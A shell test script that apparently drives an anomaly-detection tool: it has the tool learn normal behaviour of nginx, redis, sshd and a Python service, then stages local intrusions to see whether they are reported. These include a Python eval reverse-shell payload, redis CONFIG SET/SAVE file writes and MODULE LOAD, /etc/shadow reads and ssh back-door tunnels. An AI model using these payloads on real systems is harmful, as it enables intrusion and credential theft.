# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=sh
#
# Runs in the virtual machine: guest.sh LEARN ROUNDS REPEAT. Four programs of Debian do their usual work while it is
# learnt, then ROUNDS times something of the kind with other seeds, then what an intruder does, REPEAT times each.
# What an intruder does counts only where its effect was found afterwards. Prints, with tabs between,
#
#   learnt PROGRAM SEQUENCES LIMIT ROUNDS how many are known, how many of a window may be new, after how many rounds
#   usual PROGRAM ROUNDS EVENTS THREADS   of the work afterwards, what was reported: how many events of how many threads
#   attack PROGRAM WHAT DONE REPORTED     how often it had its effect, and how often of these it was reported
#   event EXECUTABLE DETAIL
#   output FUNCTION, and below it what the attack printed last

# shellcheck source=tests/vm/guest/lib.sh
. /vm/lib.sh
LEARN=$1 ROUNDS=$2 REPEAT=$3 ROOT=/opt/programs RESULTS=/run/results
PROGRAMS='nginx redis sshd service'
PORT_NGINX=9999 PORT_REDIS=9998 PORT_SERVICE=9997 # the intruder's listeners
SEEDS_LEARN=20000				  # rounds at most

inside() { chroot "$ROOT" "$@"; }
executable() {
	case $1 in
	nginx) echo $ROOT/usr/sbin/nginx ;;
	redis) echo $ROOT/usr/bin/redis-check-rdb ;; # what redis-server is a link to
	sshd) echo $ROOT/usr/sbin/sshd ;;
	service) echo $ROOT/usr/bin/service ;;
	esac
}

# --- The programs -------------------------------------------------------------------------------

prepare() {
	mkdir -p $ROOT $RESULTS
	tar -x -f /opt/programs.tar -C $ROOT || fail 'no programs'
	rm /opt/programs.tar
	mount -t proc proc $ROOT/proc
	mount --bind /dev $ROOT/dev
	mkdir -p $ROOT/srv/www/dir $ROOT/srv/www/up $ROOT/run/sshd $ROOT/root/.ssh $ROOT/var/lib/redis $ROOT/evil
	chmod 777 $ROOT/srv/www/up
	echo small >$ROOT/srv/www/small
	cp $ROOT/srv/www/small $ROOT/srv/www/index.html
	dd if=/dev/zero of=$ROOT/srv/www/large bs=64k count=8 2>/dev/null
	cp $ROOT/usr/bin/python3.11 $ROOT/usr/bin/service
	cp /opt/hole.so /opt/load.py /opt/service.py /opt/ask.py $ROOT/root/
	printf '#!/bin/sh\necho wrong\n' >$ROOT/root/askpass
	chmod 755 $ROOT/root/askpass
	inside ssh-keygen -q -t ed25519 -N '' -f /root/key
	inside ssh-keygen -q -t ed25519 -N '' -f /root/other
	inside ssh-keygen -A >/dev/null
	cp $ROOT/root/key.pub $ROOT/root/.ssh/authorized_keys
	echo 'PermitRootLogin yes' >>$ROOT/etc/ssh/sshd_config
	cat >$ROOT/etc/nginx/nginx.conf <<END
user www-data;
worker_processes 1;
events { worker_connections 64; }
http { server { listen 127.0.0.1:8080; root /srv/www; } }
END
}

serve() {
	ip link set lo up
	LD_PRELOAD=/root/hole.so inside /usr/sbin/nginx || fail 'nginx does not start'
	inside /usr/bin/redis-server --daemonize yes --dir /var/lib/redis --enable-protected-configs yes \
		--enable-module-command yes --save 5 1 >/dev/null || fail 'redis does not start'
	inside /usr/sbin/sshd -E /var/log/sshd.log || fail 'sshd does not start'
	inside /usr/bin/service /root/service.py &
	for port in $PORT_NGINX $PORT_REDIS $PORT_SERVICE; do
		: >"/run/received-$port"
		printf '#!/bin/sh\ncat >>/run/received-%s\n' "$port" >"/run/receive-$port"
		chmod 755 "/run/receive-$port"
		busybox nc -ll -p "$port" -e "/run/receive-$port" &
	done
}

# --- Usual work ---------------------------------------------------------------------------------

# load PROGRAM SEED ROUNDS
load() { inside /usr/bin/python3.11 /root/load.py "$@"; }
reports() { grep 'operation="new-sequence"' "$EVENT_LOG" | grep -F " exe=\"$(executable "$1")\""; }
reported() { reports "$1" | grep -c .; }
# The line of `policyctl baseline list` about a program's sequences.
listed() { policyctl baseline list | grep -A 1 -x -F "$(executable "$1")" | grep ' sequence '; }

learn_program() {
	seed=1
	until listed "$1" | grep -q 'may be new'; do
		[ "$seed" -lt $SEEDS_LEARN ] || fail "'$1' still learns after $SEEDS_LEARN rounds"
		load "$1" "$seed" 10
		seed=$((seed + 10))
	done
	listed "$1" | sed -E "s/.* ([0-9]+) known, .*at most ([0-9]+) of.*/learnt	$1	\1	\2	$seed/"
}

usual_program() {
	before=$(reported "$1")
	load "$1" 1000000 "$ROUNDS"
	sleep 1
	reports "$1" | tail -n "+$((before + 1))" | sed 's/.* suppressed="\([0-9]*\)".*/\1/' |
		awk -v OFS='\t' -v program="$1" -v rounds="$ROUNDS" '{ threads += $1 } END { print "usual", program, rounds, NR, threads + 0 }'
}

# --- What an intruder does: each succeeds where it had its effect ------------------------------

ask() { inside /usr/bin/python3.11 /root/ask.py "$@"; }
ask_redis() { printf '%s\r\n' "$@" | busybox nc -w 2 127.0.0.1 6379; }

# received PORT PATTERN COMMAND…: whether the intruder's listener then has more lines like that.
received() {
	lines=$(grep -c "$2" "/run/received-$1")
	file=/run/received-$1 pattern=$2
	shift 2
	"$@"
	sleep 1
	[ "$(grep -c "$pattern" "$file")" -gt "$lines" ]
}

nginx_shell() { received $PORT_NGINX 'uid=33' ask 8080 /pull-shell; }
nginx_send() { received $PORT_NGINX '^root:' ask 8080 /pull-send; }
nginx_write() {
	rm -f $ROOT/srv/www/up/door
	ask 8080 /pull-write
	[ -s $ROOT/srv/www/up/door ]
}
nginx_link() {
	ln -sf /etc/passwd $ROOT/srv/www/dir/link
	ask 8080 /dir/link | grep -q '^root:'
}

redis_module() { received $PORT_REDIS 'uid=0' ask_redis 'MODULE LOAD /root/hole.so'; }
# redis_write COMMAND FILE: has it write what it has where the intruder wants it, as soon as it is free to.
redis_write() {
	rm -f "$ROOT/evil/$2"
	ask_redis 'CONFIG SET dir /evil' "CONFIG SET dbfilename $2"
	for _ in 1 2 3 4 5 6 7 8; do
		ask_redis "$1" | grep '^+' && break
		sleep 1
	done
	sleep 2
	ask_redis 'CONFIG SET dir /var/lib/redis' 'CONFIG SET dbfilename dump.rdb'
	[ -s "$ROOT/evil/$2" ]
}
redis_save() { redis_write SAVE cron; }
redis_background() { redis_write BGSAVE later; }

SSH_OPTIONS='-q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null'
# shellcheck disable=SC2086 # words on purpose
log_in() { inside ssh $SSH_OPTIONS -i /root/key -o BatchMode=yes "$@"; }
sshd_guess() {
	lines=$(grep -c 'Failed password' $ROOT/var/log/sshd.log)
	# shellcheck disable=SC2086
	SSH_ASKPASS=/root/askpass SSH_ASKPASS_REQUIRE=force inside ssh $SSH_OPTIONS -o PreferredAuthentications=password \
		root@127.0.0.1 true
	[ "$(grep -c 'Failed password' $ROOT/var/log/sshd.log)" -gt "$lines" ]
}
sshd_tunnel() {
	log_in -f -o ExitOnForwardFailure=yes -L 7070:127.0.0.1:8080 root@127.0.0.1 sleep 3
	ask 7070 /small | grep -q small
}
sshd_door() {
	log_in -f -o ExitOnForwardFailure=yes -R 7071:127.0.0.1:8080 root@127.0.0.1 sleep 3
	ask 7071 /small | grep -q small
}
sshd_key() {
	rm -f $ROOT/evil/key
	log_in root@127.0.0.1 'cat /etc/shadow >/evil/key'
	grep -q '^root:' $ROOT/evil/key
}

service_system() {
	rm -f $ROOT/evil/id
	ask 8081 /eval "__import__('os').system('id >/evil/id')"
	grep -q 'uid=0' $ROOT/evil/id
}
service_shell() {
	received $PORT_SERVICE 'uid=0' ask 8081 /eval "[s:=__import__('socket').create_connection(('127.0.0.1',\
$PORT_SERVICE)),__import__('subprocess').call(['/bin/sh','-c','id'],stdout=s)]"
}
service_read() { ask 8081 /eval "open('/etc/shadow','rb').read()" | grep -q 'root:'; }

# attack PROGRAM FUNCTION WHAT: after usual work, when the last report is long enough ago for another, and with
# usual work after it.
attack() {
	sleep 11
	load "$1" 7 2
	before=$(reported "$1") done=0 found=0
	"$2" >"$RESULTS/output-$2" 2>&1 && done=1
	load "$1" 8 2
	sleep 1
	[ "$(reported "$1")" = "$before" ] || found=1
	printf 'attack\t%s\t%s\t%s\t%s\n' "$1" "$3" "$done" "$((done * found))"
}

# shellcheck disable=SC2016 # Markdown
attack_program() {
	case $1 in
	nginx)
		attack nginx nginx_shell 'foreign code in a worker: a shell that talks to another host'
		attack nginx nginx_send 'foreign code in a worker: sends a file to another host'
		attack nginx nginx_write 'foreign code in a worker: writes a file into its tree'
		attack nginx nginx_link 'mimicry: a link out of its tree, fetched as a page'
		;;
	redis)
		attack redis redis_module '`MODULE LOAD` of foreign code: a shell that talks to another host'
		attack redis redis_save '`CONFIG SET dir`, `SAVE`: writes a file of the intruder'"'"'s choice'
		attack redis redis_background 'mimicry: the same with `BGSAVE`, as usual'
		;;
	sshd)
		attack sshd sshd_guess 'guesses passwords, three in one connection'
		attack sshd sshd_tunnel 'a tunnel to another service (`ssh -L`)'
		attack sshd sshd_door 'a door back (`ssh -R`)'
		attack sshd sshd_key 'mimicry: a stolen key, used for a command'
		;;
	service)
		attack service service_system 'evaluated code: `os.system`'
		attack service service_shell 'evaluated code: a shell that talks to another host'
		attack service service_read 'mimicry: evaluated code reads `/etc/shadow` as if it were a page'
		;;
	esac
}

attacks_of() {
	for _ in $(seq "$REPEAT"); do attack_program "$1"; done
}

# at_once FUNCTION: for all programs, each in a shell of its own; what they print comes in order.
at_once() {
	for program in $PROGRAMS; do
		"$1" "$program" >"$RESULTS/$1-$program" &
		eval "pid_$program=\$!"
	done
	for program in $PROGRAMS; do
		eval "wait \$pid_$program"
		cat "$RESULTS/$1-$program"
	done
}

prepare
policy usual <<END
version: 1
policy: usual
subject: {exe: [$(for program in $PROGRAMS; do printf '%s, ' "$(executable "$program")"; done)]}
anomaly: {learn: $LEARN, report: [sequence]}
END
# shellcheck disable=SC2119 # without options
start_policyd
serve
sleep 3
at_once learn_program
at_once usual_program
at_once attacks_of
sed -n '/operation="new-sequence"/s/.* exe="\([^"]*\)".* detail="\([^"]*\)".*/event	\1	\2/p;t
	/operation="new-sequence"/s/.* detail="\([^"]*\)".* exe="\([^"]*\)".*/event	\2	\1/p' "$EVENT_LOG"
for file in "$RESULTS"/output-*; do
	echo "output ${file##*-}"
	head -n 5 "$file"
done
